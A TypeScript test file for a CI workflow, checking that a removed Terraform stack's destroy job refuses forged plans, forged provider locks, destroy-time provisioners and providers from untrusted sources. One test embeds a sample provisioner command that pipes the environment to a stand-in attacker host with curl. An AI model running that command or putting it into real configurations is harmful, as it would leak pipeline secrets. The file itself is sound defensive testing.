// A removed stack's destroy plan runs with the gating tier's applier token and the server's admin
// password: like a live stack's plan (VERIFY_CONFIG_SCRIPT), its embedded configuration and lock
// must be main's before the push — what `locate` synthesized and uploaded — and those files, not the
// artifact's, are staged for `terraform init`. The forged-plan attack is test/attack/removed-stack-forged-plan.test.ts;
// this drives the real generated steps end to end: locate's staging, then the destroy job up to its apply.
import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { providerLockFile } from '../../constructs/naming';
import { testTmp } from '../setup/tmpdir';

const root = join(__dirname, '../..');
const workflow = parse(readFileSync(join(root, '.github/workflows/tierkit-apply.yml'), 'utf8'));
const STACK = 'crm-alice';
const ARTIFACT_PATH = `terraform/${STACK}/cdk.tf.json`;
const honest = readFileSync(join(root, 'dist', ARTIFACT_PATH), 'utf8');
const providerSet = Object.keys(JSON.parse(honest).terraform.required_providers).sort().join('+');
const LOCK = `# committed lock of ${providerSet}\nprovider "registry.terraform.io/cyrilgdn/postgresql" {}\n`;
// The stand-in terraform shows it for the reviewed plan and the job's own -destroy plan alike (they agree).
const SHOWN = JSON.stringify({ errored: false, complete: true, resource_changes: [{ address: 'postgresql_role.group_role', change: { actions: ['delete'] } }] });
let runs = 0;

function sh(script: string, cwd: string, env: Record<string, string>) {
  return spawnSync('bash', ['-e', '-o', 'pipefail', '-c', script], { cwd, env: { PATH: process.env.PATH ?? '', HOME: cwd, ...env }, encoding: 'utf8' });
}

/** A tfplan (zip) whose embedded configuration is `config` and lock `lock`, as `terraform plan -out` writes one. */
function planZip(dir: string, config: string, lock: string): void {
  const z = join(dir, 'zip');
  mkdirSync(join(z, 'tfconfig/m-'), { recursive: true });
  writeFileSync(join(z, 'tfconfig/m-/cdk.tf.json'), config);
  writeFileSync(join(z, 'tfconfig/modules.json'), '{"Modules":[{"Key":"","Source":"","Dir":"."}]}');
  writeFileSync(join(z, '.terraform.lock.hcl'), lock);
  writeFileSync(join(z, 'tfstate'), '{}');
  // Files only, as Terraform's planfile writer; zip(1) appends .zip to a name without an extension.
  const r = spawnSync('zip', ['-qrD', join(dir, 'stack', 'tfplan.zip'), 'tfconfig', '.terraform.lock.hcl', 'tfstate'], { cwd: z });
  if (r.status !== 0) throw new Error(`zip: ${r.stderr}`);
  renameSync(join(dir, 'stack', 'tfplan.zip'), join(dir, 'stack', 'tfplan'));
}

/**
 * Locate's staging step over main-before's synthesized stack (`before`) and committed lock, then the
 * destroy job's `run:` steps for crm-alice (uses: steps stand in: the artifact lands in before/), up to its apply.
 */
function destroy(opts: { before?: string; plan: { config: string; lock: string }; beside?: string; extra?: Record<string, string> }) {
  const dir = testTmp('ci', `removed-config-${process.pid}-${++runs}`);
  mkdirSync(join(dir, 'stack'), { recursive: true });
  mkdirSync(join(dir, 'bin'), { recursive: true });
  writeFileSync(join(dir, 'bin', 'terraform'), `#!/bin/bash\ncase "$1" in show) echo '${SHOWN}' ;; apply) cp cdk.tf.json .terraform.lock.hcl "${dir}/" && touch "${dir}/applied" ;; esac\n`, { mode: 0o755 });
  // locate: main before the push, synthesized, and its checkout's committed lock files.
  const ws = join(dir, 'ws');
  mkdirSync(join(ws, 'before-dist', 'terraform', STACK), { recursive: true });
  writeFileSync(join(ws, 'before-dist', 'manifest.json'), '{}');
  writeFileSync(join(ws, 'before-dist', ARTIFACT_PATH), opts.before ?? honest);
  const lockPath = join(dir, 'runner', 'before', providerLockFile(providerSet));
  mkdirSync(join(lockPath, '..'), { recursive: true });
  writeFileSync(lockPath, LOCK);
  const stage = workflow.jobs.locate.steps.find((s: any) => s.name === 'Stage the stacks and committed provider lock files of main before this push');
  const staged = sh(stage.run, ws, { RUNNER_TEMP: join(dir, 'runner') });
  if (staged.status !== 0) throw new Error(staged.stderr);
  cpSync(join(ws, 'before-main'), join(dir, 'before'), { recursive: true }); // the download step
  planZip(dir, opts.plan.config, opts.plan.lock);
  // What the artifact carries beside the plan (the PR run controls it).
  writeFileSync(join(dir, 'stack', 'cdk.tf.json'), opts.beside ?? opts.plan.config);
  writeFileSync(join(dir, 'stack', '.terraform.lock.hcl'), opts.beside === undefined ? opts.plan.lock : '# forged\n');
  for (const [rel, text] of Object.entries(opts.extra ?? {})) {
    mkdirSync(join(dir, 'stack', rel, '..'), { recursive: true });
    writeFileSync(join(dir, 'stack', rel), text);
  }
  const sha = createHash('sha256').update(readFileSync(join(dir, 'stack', 'tfplan'))).digest('hex');
  const values: Record<string, string> = {
    'matrix.stack': STACK, 'matrix.server': 'nonprod-pg', 'matrix.gatingTier': 'dev', 'matrix.artifact': ARTIFACT_PATH,
    'fromJSON(needs.locate.outputs.plans)[matrix.stack]': sha,
  };
  let log = '';
  for (const s of workflow.jobs['remove-app-environments'].steps) {
    if (!s.run || (s.if && !/^matrix\.server == 'nonprod-pg'$/.test(String(s.if).trim()))) continue;
    const env: Record<string, string> = { PATH: `${join(dir, 'bin')}:${process.env.PATH}`, GITHUB_OUTPUT: join(dir, '.out'), GITHUB_ENV: join(dir, '.env'), RUNNER_TEMP: dir };
    for (const [k, v] of Object.entries({ ...(workflow.env ?? {}), ...(s.env ?? {}) })) {
      env[k] = String(v).replace(/\$\{\{([^}]+)\}\}/g, (_w, e: string) => values[e.trim()] ?? (e.trim().startsWith('env.') ? String(workflow.env?.[e.trim().slice(4)] ?? '') : ''));
    }
    if (env.CA_FILE) env.CA_FILE = join(dir, 'ca', 'server.pem');
    const r = sh(s.run, s['working-directory'] ? join(dir, s['working-directory']) : dir, env);
    log += `--- ${s.name}: ${r.status}\n${r.stdout}${r.stderr}`;
    if (r.status !== 0 || /terraform apply/.test(s.run)) break;
  }
  const applied = existsSync(join(dir, 'applied'));
  return { applied, log, left: readdirSync(join(dir, 'stack')).sort(), config: applied ? readFileSync(join(dir, 'cdk.tf.json'), 'utf8') : undefined, lock: applied ? readFileSync(join(dir, '.terraform.lock.hcl'), 'utf8') : undefined };
}

describe("a removed stack's destroy plan is held to main's configuration before the push", () => {
  it("applies a plan made from main-before's stack and lock, with those files staged (not the artifact's)", () => {
    const r = destroy({ plan: { config: honest, lock: LOCK }, beside: '{"terraform":{"required_providers":{"null":{"source":"hashicorp/null"}}}}' });
    expect(r.applied, r.log).toBe(true);
    expect(r.config).toBe(honest);
    expect(r.lock).toBe(LOCK);
  });

  it('refuses a plan whose embedded configuration is not main-before\'s (a destroy-time provisioner added), naming the stack', () => {
    const forged = JSON.parse(honest);
    const [type, name] = [Object.keys(forged.resource)[0], Object.keys(forged.resource[Object.keys(forged.resource)[0]])[0]];
    forged.resource[type][name].provisioner = [{ 'local-exec': { when: 'destroy', command: 'env | curl -d @- https://attacker.example/' } }];
    const r = destroy({ plan: { config: JSON.stringify(forged), lock: LOCK } });
    expect(r.applied).toBe(false);
    expect(r.log).toContain(`::error::the plan of ${STACK} was made from a configuration that is not main's (before this push) synthesized ${ARTIFACT_PATH}`);
  });

  it('refuses a plan made with another provider lock than main-before committed', () => {
    const r = destroy({ plan: { config: honest, lock: '# forged: any package\n' } });
    expect(r.applied).toBe(false);
    expect(r.log).toContain(`::error::the plan of ${STACK} was made with provider packages other than main's (before this push) committed ${providerLockFile(providerSet)} records`);
  });

  it('refuses, even when the plan matches, a destroy configuration holding a provisioner or a provider from another source', () => {
    const withProvisioner = JSON.parse(honest);
    const type = Object.keys(withProvisioner.resource)[0];
    const name = Object.keys(withProvisioner.resource[type])[0];
    withProvisioner.resource[type][name].provisioner = [{ 'local-exec': { when: 'destroy', command: 'true' } }];
    const a = destroy({ before: JSON.stringify(withProvisioner), plan: { config: JSON.stringify(withProvisioner), lock: LOCK } });
    expect(a.applied).toBe(false);
    expect(a.log).toContain(`::error::the destroy configuration of ${STACK} holds what a destroy never needs: /resource/${type}/${name}/provisioner: refusing to apply`);
    const otherSource = JSON.parse(honest);
    otherSource.terraform.required_providers.postgresql.source = 'evil/postgresql';
    const b = destroy({ before: JSON.stringify(otherSource), plan: { config: JSON.stringify(otherSource), lock: LOCK } });
    expect(b.applied).toBe(false);
    expect(b.log).toContain('/terraform/required_providers/postgresql (source "evil/postgresql")');
  });

  it('keeps nothing else the artifact carried: no .terraform/ (workspace, cached providers), no *.tf, no created-connections.txt', () => {
    const r = destroy({
      plan: { config: honest, lock: LOCK },
      extra: { '.terraform/environment': 'other-workspace', 'override.tf.json': '{"resource":{}}', 'created-connections.txt': 'sys/policies/acl/x\n' },
    });
    expect(r.applied, r.log).toBe(true);
    // The stand-in terraform wrote plan.json and reviewed.json (its plan stays unwritten); everything else is the verified plan and main-before's files.
    expect(r.left).toEqual(['.terraform.lock.hcl', 'cdk.tf.json', 'plan.json', 'reviewed.json', 'tfplan']);
  });
});
